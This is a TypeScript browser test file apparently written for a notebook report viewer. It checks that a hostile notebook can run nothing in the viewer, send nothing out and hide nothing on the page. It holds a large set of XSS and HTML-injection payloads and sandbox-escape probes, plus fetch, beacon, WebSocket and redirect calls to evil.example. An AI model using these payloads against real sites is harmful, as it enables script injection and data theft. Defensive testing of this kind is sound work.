import { describe, expect, it } from 'vitest';
import { runAddress } from '../../src/viewer/route.ts';
import { CHROMIUM, useChromium } from './chromium.ts';
import { aRun, code, display, markdown, sampleReport } from './sample-report.ts';

const DO_HARM = 'window.top.document.title="harmed";window.harmed=1;alert(1);fetch("https://evil.example/")';
const EVENT = `onerror='${DO_HARM}' onload='${DO_HARM}' onclick='${DO_HARM}' onmouseover='${DO_HARM}'`;

/** HTML that would run, load, leave or cover something. */
const HOSTILE_HTML = [
  `<script>${DO_HARM}</script>`,
  `<img src=x ${EVENT}>`,
  `<img src="https://evil.example/pixel.png" srcset="https://evil.example/2.png 2x">`,
  `<svg ${EVENT}><script>${DO_HARM}</script><image href="https://evil.example/i.svg"/><use href="https://evil.example/u#x"/></svg>`,
  `<svg><style><img src=x ${EVENT}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ${EVENT.replaceAll('"', '&quot;')}&gt;">`,
  `<iframe srcdoc="<script>${DO_HARM.replaceAll('"', '&quot;')}</script>"></iframe>`,
  '<iframe src="https://evil.example/frame"></iframe><embed src="https://evil.example/e"><object data="https://evil.example/o"></object>',
  `<a href="javascript:${DO_HARM.replaceAll('"', '&quot;')}">click</a>`,
  '<form action="https://evil.example/form"><button>go</button><input name=q></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><link rel="preconnect" href="https://evil.example">',
  '<style>@import "https://evil.example/i.css"; *{background:url(https://evil.example/b.png)} :host{position:fixed!important} h1{display:none!important}</style>',
  '<div style="position:fixed;inset:0;z-index:99999;background:red;width:9999px;height:9999px" id="report">covered</div>',
  '<div id="main" class="cell failing status">clobber</div><img name="body"><input name="getElementById">',
  '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  '</script></style></textarea></title><script>window.harmed=1</script>',
];

const NAME = '</script><img src=x onerror=alert(1)>&"\'<!--<script>';

const WIDGETS = {
  'application/vnd.jupyter.widget-state+json': {
    version_major: 2,
    version_minor: 0,
    state: {
      html: { model_name: 'HTMLModel', state: { value: HOSTILE_HTML.join('') } },
      loop: { model_name: 'VBoxModel', state: { children: ['IPY_MODEL_loop', 'IPY_MODEL_html'] } },
    },
  },
};

const CELLS = [
  markdown(
    `# Title\n\n${HOSTILE_HTML.join('\n\n')}\n\n[link](javascript:alert(1)) ![i](https://evil.example/m.png) <https://evil.example/auto>`,
  ),
  markdown(
    '$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{https://evil.example/t.png}$$ $\\htmlData{x=y}{z}$ $\\unicode{<img src=x onerror=alert(1)>}$',
  ),
  markdown('![a](attachment:x.png)', {
    attachments: { 'x.png': { 'image/svg+xml" onload="alert(1)': 'PHN2Zz4=' } },
  }),
  code(`print("</script><script>${DO_HARM}</script>")`, [
    {
      output_type: 'stream',
      name: 'stdout',
      text: `</script><script>${DO_HARM}</script>\u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007`,
    },
    ...HOSTILE_HTML.map((html) => display({ 'text/html': html })),
    display({ 'text/markdown': HOSTILE_HTML.join('\n\n') }),
    display({ 'text/latex': `$${HOSTILE_HTML[1] ?? ''}$` }),
    display({
      'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" ${EVENT}><script>${DO_HARM}</script><image href="https://evil.example/s.png"/></svg>`,
    }),
    display({ 'image/png': `" ${EVENT} x="` }),
    display({ 'application/javascript': DO_HARM }),
    display({ 'application/json': { '</script>': '<img src=x onerror=alert(1)>', __proto__: 1 } }),
    display({ 'application/vnd.jupyter.widget-view+json': { model_id: 'loop' } }),
    {
      output_type: 'error',
      ename: '<img src=x onerror=alert(1)>',
      evalue: '</script>',
      traceback: ['<script>alert(1)</script>'],
    },
  ]),
];

const RUN = aRun({
  name: NAME,
  notebook: NAME,
  outputPath: `../${NAME}.ipynb`,
  status: 'failed',
  parameters: [[NAME, NAME]],
  error: { ename: NAME, evalue: NAME, traceback: NAME, cellIndex: 0, executionCount: 1, file: NAME, line: 1 },
  metadata: { widgets: WIDGETS },
  cells_: CELLS,
});

describe.skipIf(CHROMIUM === undefined)('a hostile notebook in the report', { timeout: 60_000 }, () => {
  const open = useChromium();

  it('S5, S13 executes nothing, sends nothing and changes nothing in the overview', async () => {
    await using report = await open(
      await sampleReport([RUN, aRun({ name: 'other', parameters: [[NAME, '1']] })]),
    );
    expect(await report.page.locator('tbody th a').first().textContent()).toBe(NAME);
    expect(await harmOf(report.page)).toEqual({ title: '1 of 2 runs did not pass', harmed: undefined });
    expect(await report.incidents()).toEqual([]);
  });

  it('S5, S13 executes nothing, sends nothing and changes nothing in its run', async () => {
    await using report = await open(await sampleReport([RUN]), { hash: runAddress(NAME) });
    await report.page.locator('.cell').nth(3).waitFor();
    for (const link of await report.page.locator('.notebook .foreign a').all()) {
      const href = await link.getAttribute('href');
      expect(href ?? '#').toMatch(/^(?:https?:|#)/);
    }
    await report.page.evaluate(() => {
      // Whatever could be set off by the reader is set off.
      const roots = [
        document,
        ...[...document.querySelectorAll('.foreign-host')].map((host) => host.shadowRoot),
      ];
      for (const root of roots) {
        for (const node of root?.querySelectorAll('.notebook *, .foreign *') ?? []) {
          if (node.closest('a, button') === null)
            for (const type of ['click', 'mouseover', 'load', 'error']) node.dispatchEvent(new Event(type));
        }
      }
    });
    expect(await harmOf(report.page)).toEqual({
      title: `${NAME} · The run did not pass`.replace('The run', '1 of 1 run'),
      harmed: undefined,
    });
    expect(await report.incidents()).toEqual([]);
    expect(await report.page.locator('h1').first().isVisible()).toBe(true);
    expect(await coveredPoint(report.page)).toBe('H1');
  });

  it('executes its script only after a click, in a frame that reaches neither the page nor the network', async () => {
    const probe = `
      const lines = [];
      const attempt = (name, act) => { try { const got = act(); lines.push(name + ' ' + (got === undefined ? 'nothing' : 'GOT ' + got)); } catch (e) { lines.push(name + ' ' + e.name); } };
      attempt('parent', () => parent.document.title);
      attempt('storage', () => localStorage.length);
      attempt('cookie', () => document.cookie);
      attempt('rtc', () => window.RTCPeerConnection && 'there');
      attempt('navigate', () => { top.location = 'https://evil.example/top'; });
      attempt('window', () => window.open('https://evil.example/popup') || undefined);
      new Image().src = 'https://evil.example/image';
      const s = document.createElement('script'); s.src = 'https://evil.example/script.js'; document.head.append(s);
      fetch('https://evil.example/fetch').catch(() => {}).finally(() => { document.getElementById('said').textContent = lines.join('\\n'); });
      try { new WebSocket('wss://evil.example/'); } catch {}
      try { navigator.sendBeacon('https://evil.example/beacon'); } catch {}
    `;
    const html = `<pre id="said">waiting</pre><script>${probe}</script>`;
    const cells = [code('x', [display({ 'text/html': html })])];
    await using report = await open(await sampleReport([aRun({ cells_: cells })]), { hash: '#run=bank' });
    const { page } = report;
    await page.locator('.foreign pre').waitFor();
    expect(await page.locator('.foreign pre').textContent()).toBe('waiting');
    await page.getByRole('button', { name: 'Start interactive output' }).click();
    const said = page.frameLocator('iframe.sandbox').locator('#said');
    await said.filter({ hasText: 'parent' }).waitFor();
    expect((await said.textContent())?.split('\n')).toEqual([
      'parent SecurityError',
      'storage SecurityError',
      'cookie SecurityError',
      'rtc nothing',
      'navigate SecurityError',
      'window nothing',
    ]);
    expect(await report.incidents()).toEqual([]);
    expect(page.url()).toContain('report.html#run=bank');
  });

  it('cannot send its own frame elsewhere, though Chromium opens a connection before it refuses', async () => {
    const html = '<script>location = "https://evil.example/?secret"</script>';
    const cells = [code('x', [display({ 'text/html': html })])];
    await using report = await open(await sampleReport([aRun({ cells_: cells })]), { hash: '#run=bank' });
    await report.page.getByRole('button', { name: 'Start interactive output' }).click();
    await expect
      .poll(() => report.page.frames().map((frame) => frame.url()))
      .toContain('chrome-error://chromewebdata/');
    // No policy of a page prevents this early connection. Nothing is asked over it: the address never leaves.
    expect(await report.incidents()).toEqual(['sent evil.example:443']);
  });

  it('is seen by the edge of the network when the page is allowed to load', async () => {
    const open_ = (await sampleReport([aRun({ cells_: CELLS })])).replace(
      /<meta http-equiv="Content-Security-Policy"[^>]*>/,
      '',
    );
    await using report = await open(open_, { hash: '#run=bank' });
    await expect.poll(async () => (await report.incidents()).length, { timeout: 20_000 }).toBeGreaterThan(0);
  });
});

interface PageLike {
  evaluate<T>(act: () => T): Promise<T>;
}

async function harmOf(page: PageLike): Promise<unknown> {
  return await page.evaluate(() => ({
    title: document.title,
    harmed: (window as { harmed?: unknown }).harmed,
  }));
}

/** What a reader sees and hits at the place of the page's heading. */
async function coveredPoint(page: PageLike): Promise<string | undefined> {
  return await page.evaluate(() => {
    window.scrollTo(0, 0);
    const heading = document.querySelector('h1');
    const { left, top } = heading?.getBoundingClientRect() ?? { left: 0, top: 0 };
    return document.elementFromPoint(left + 4, top + 12)?.tagName;
  });
}
